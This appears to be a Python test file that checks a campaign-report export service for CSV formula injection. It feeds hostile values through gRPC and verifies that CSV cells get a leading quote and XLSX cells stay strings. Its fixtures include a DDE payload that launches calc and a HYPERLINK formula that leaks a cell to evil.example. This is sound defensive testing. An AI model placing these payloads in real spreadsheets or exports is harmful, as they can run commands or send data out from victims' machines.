"""Exports that are safe to open (issue 10, item 7): CSV injection.

A campaign fed over real gRPC with hostile values in every client-controlled
place (recipient, campaign name, session id, channel, variant, variables,
failure code and message) and in what an anonymous clicker controls (user
agent, URL, region, city, link variable). In the CSV, no text cell starts
with a formula character unless it is plainly a number or an E.164 number
(those stay exactly as sent); the others carry one leading `'` and nothing
else changes. In the XLSX the same values stay strings, never formulas, and
carry no quote. The encoder's fast path (a page without suspects is not
re-encoded cell by cell) is checked against the cell-by-cell reference on
random pages.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flowtrack.export import columns, connectly
from flowtrack.export.csv import FORMULA_STARTS, CsvEncoder, neutralise
from flowtrack.v1 import campaign_pb2, common_pb2, ingest_pb2, report_pb2
from tests.conftest import Client
from tests.report_helpers import BASE_US, send_events, ts

R = report_pb2
CSV, XLSX = R.EXPORT_FORMAT_CSV, R.EXPORT_FORMAT_XLSX
MESSAGES, CLICKS, FAILURES = R.EXPORT_KIND_MESSAGES, R.EXPORT_KIND_CLICKS, R.EXPORT_KIND_FAILURE_REASONS

CMD = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'
E164 = "+5511999990000"
HOSTILE = {
    # where: the value as sent
    "recipient": CMD,
    "name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "session": "-2+3+cmd|' /C calc'!A0",
    "channel": "+sms",
    "variant": "\t=1+1",
    "code": "=ERR()",
    "message": "\r=1+1, failed",
    "user_agent": LINK,
    "url": "+1+1",
    "region": "@evil",
    "city": "-1+1",
    "link_variable": "=A1",
}
PLAIN = {"-12.5", "+12", "-3", E164, "-0.5e-3"}


def _campaign(client: Client) -> None:
    client.campaigns.CreateCampaign(
        campaign_pb2.CreateCampaignRequest(campaign=campaign_pb2.Campaign(id="safe", name=HOSTILE["name"])), timeout=10
    )

    def status(eid: str, recipient: str, state: int, **kw: object) -> ingest_pb2.Event:
        return ingest_pb2.Event(
            status=ingest_pb2.StatusEvent(
                event_id=eid, campaign_id="safe", recipient=recipient, status=state, occurred_at=ts(BASE_US), **kw
            )
        )

    events = [
        status(
            "s1",
            HOSTILE["recipient"],
            common_pb2.MESSAGE_STATUS_SUCCESS,
            session_id=HOSTILE["session"],
            channel=HOSTILE["channel"],
            variant=HOSTILE["variant"],
            input_variables={"x": "=1+1", "amount": "-12.5"},
            output_variables={"y": "@A1"},
        ),
        status(
            "s2",
            E164,
            common_pb2.MESSAGE_STATUS_FAILED,
            failure_reason=common_pb2.FailureReason(code=HOSTILE["code"], message=HOSTILE["message"]),
            channel="-12.5",  # plainly a number: untouched
            variant="+12",
        ),
        status("s3", "-3", common_pb2.MESSAGE_STATUS_SUBMITTED),  # a recipient that is plainly a number
        ingest_pb2.Event(
            click=ingest_pb2.ClickEvent(
                event_id="c1",
                campaign_id="safe",
                recipient=E164,
                link_id="Ab12",
                link_variable=HOSTILE["link_variable"],
                url=HOSTILE["url"],
                occurred_at=ts(BASE_US + 1_000_000),
                location=common_pb2.Location(country_code="BR", region=HOSTILE["region"], city=HOSTILE["city"]),
                user_agent=HOSTILE["user_agent"],
            )
        ),
    ]
    results = send_events(client, events)
    assert [r.outcome for r in results] == [ingest_pb2.EVENT_OUTCOME_ACCEPTED] * len(events), results


def _export(client: Client, kind: int, fmt: int) -> bytes:
    request = R.ExportReportRequest(campaign_id="safe", kind=kind, format=fmt)
    return b"".join(m.chunk for m in client.reports.ExportReport(request, timeout=30))


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _safe(cell: str) -> bool:
    return (
        not cell.startswith(FORMULA_STARTS)
        or re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell) is not None
    )


def test_csv_exports_neutralise_formulas_and_keep_numbers(client: Client) -> None:
    _campaign(client)
    seen: set[str] = set()
    for kind in (MESSAGES, CLICKS, FAILURES):
        rows = _cells(_export(client, kind, CSV))
        assert len(rows) > 1
        for row in rows:
            for cell in row:
                assert _safe(cell), (kind, cell)
                seen.add(cell)
    # Every hostile value is there once neutralised: one quote in front, nothing else changed.
    for where, value in HOSTILE.items():
        assert "'" + value in seen, (where, value)
        assert value not in seen, (where, value)
    # Plain numbers and E.164 numbers are exactly as sent.
    assert PLAIN - {"-0.5e-3"} <= seen
    assert "'" + E164 not in seen
    # Variables are JSON objects (they start with "{"): their values are kept as they are.
    messages = {row[0]: row for row in _cells(_export(client, MESSAGES, CSV))[1:]}
    header = list(columns.MESSAGE_HEADER)
    hostile = messages["'" + CMD]
    assert hostile[header.index("input_variables")] == '{"amount":"-12.5","x":"=1+1"}'
    assert hostile[header.index("output_variables")] == '{"y":"@A1"}'
    assert messages[E164][header.index("channel")] == "-12.5"
    assert messages["-3"][header.index("status")] == "SUBMITTED"


def test_xlsx_writes_the_same_values_as_strings_never_formulas(client: Client) -> None:
    _campaign(client)
    for kind in (MESSAGES, CLICKS, FAILURES):
        with zipfile.ZipFile(io.BytesIO(_export(client, kind, XLSX))) as book:
            xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
        assert "<f>" not in xml and "<f " not in xml  # no formula cell at all
        texts = {t.replace("&quot;", '"').replace("&amp;", "&") for t in re.findall(r"<t[^>]*>([^<]*)</t>", xml)}
        assert not any(t.startswith("'") for t in texts)  # XLSX needs no quote: text is text
        if kind == CLICKS:
            assert LINK in texts  # =HYPERLINK(...) stays a string
            assert re.search(r'<c r="M2" t="inlineStr"><is><t>=HYPERLINK', xml), xml
        if kind == MESSAGES:
            assert CMD in texts and E164 in texts


def test_neutralise_cases() -> None:
    for value in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "+", "=", "+55 11 99999", "-1,5"):
        assert neutralise(value) == "'" + value
    for value in ("-12.5", "+12", "12", E164, "1e5", "-.5", "+1.5E-3", "", "abc", "'=already", " =1", "{}"):
        assert neutralise(value) == value


_TEXT = st.text(alphabet=st.sampled_from(list("=+-@\t\r\n,\"'.eE0123456789 ax{}")), max_size=8)
_CELL = st.one_of(_TEXT, st.none(), st.integers(-(10**6), 10**6), st.floats(allow_nan=True, allow_infinity=True))


def _reference(rows: Sequence[Sequence[object]]) -> bytes:
    """Every text cell neutralised, then plain csv: what `write` must give."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(
        [[neutralise(c) if isinstance(c, str) else c for c in row] for row in rows]
    )
    return out.getvalue().encode("utf-8")


@pytest.mark.slow
@settings(max_examples=400, deadline=None)
@given(st.lists(st.lists(_CELL, min_size=1, max_size=6), min_size=1, max_size=6))
def test_the_fast_path_never_skips_a_cell_to_neutralise(rows: list[list[object]]) -> None:
    encoder = CsvEncoder(["h"])
    assert encoder.write(rows) == _reference(rows)  # type: ignore[arg-type]


def test_connectly_layout_is_neutralised_the_same_way(client: Client) -> None:
    """The seed's layout (EXPORT_LAYOUT_CONNECTLY) goes through the same CSV
    encoder: its text cells are neutralised (recipient, campaign name,
    session id, error code and message), E.164 and plain-number recipients
    stay as sent, and its JSON cells (buttons, link clicks, variables) and
    times are never changed. In XLSX the same values stay strings."""
    _campaign(client)
    engagement = [
        ingest_pb2.Event(
            engagement=ingest_pb2.EngagementEvent(
                event_id="b1",
                campaign_id="safe",
                recipient=CMD,
                kind=ingest_pb2.ENGAGEMENT_KIND_BUTTON_CLICKED,
                occurred_at=ts(BASE_US + 2_000_000),
                button_id="=b1",
                button_name="@tap",
            )
        ),
        ingest_pb2.Event(
            engagement=ingest_pb2.EngagementEvent(
                event_id="r1",
                campaign_id="safe",
                recipient=E164,
                kind=ingest_pb2.ENGAGEMENT_KIND_READ,
                occurred_at=ts(BASE_US + 3_000_000),
            )
        ),
    ]
    assert {r.outcome for r in send_events(client, engagement)} == {ingest_pb2.EVENT_OUTCOME_ACCEPTED}
    request = R.ExportReportRequest(campaign_id="safe", format=CSV, layout=R.EXPORT_LAYOUT_CONNECTLY)
    rows = _cells(b"".join(m.chunk for m in client.reports.ExportReport(request, timeout=30)))
    assert tuple(rows[0]) == connectly.HEADER
    for row in rows:
        for cell in row:
            assert _safe(cell), cell
    by = {row[0]: dict(zip(connectly.HEADER, row, strict=True)) for row in rows[1:]}
    assert set(by) == {"'" + CMD, E164, "-3"}
    hostile = by["'" + CMD]
    assert hostile["campaign_name"] == "'" + HOSTILE["name"]
    assert hostile["cnt_session_id"] == "'" + HOSTILE["session"]
    assert [(b["id"], b["name"]) for b in json.loads(hostile["button_clicks"])] == [("=b1", "@tap")]
    assert hostile["input_variables"] == '{"amount":"-12.5","x":"=1+1"}'
    assert hostile["output_variables"] == '{"y":"@A1"}'
    failed = by[E164]
    assert failed["error_code"] == "'" + HOSTILE["code"] and failed["error_msg"] == "'" + HOSTILE["message"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{6}", failed["read_at"])
    assert json.loads(failed["link_clicks"])[0]["link_variable"] == HOSTILE["link_variable"]
    xlsx = R.ExportReportRequest(campaign_id="safe", format=XLSX, layout=R.EXPORT_LAYOUT_CONNECTLY)
    data = b"".join(m.chunk for m in client.reports.ExportReport(xlsx, timeout=30))
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
    texts = {t.replace("&quot;", '"').replace("&amp;", "&") for t in re.findall(r"<t[^>]*>([^<]*)</t>", xml)}
    assert CMD in texts and HOSTILE["name"] in texts and not any(t.startswith("'") for t in texts)
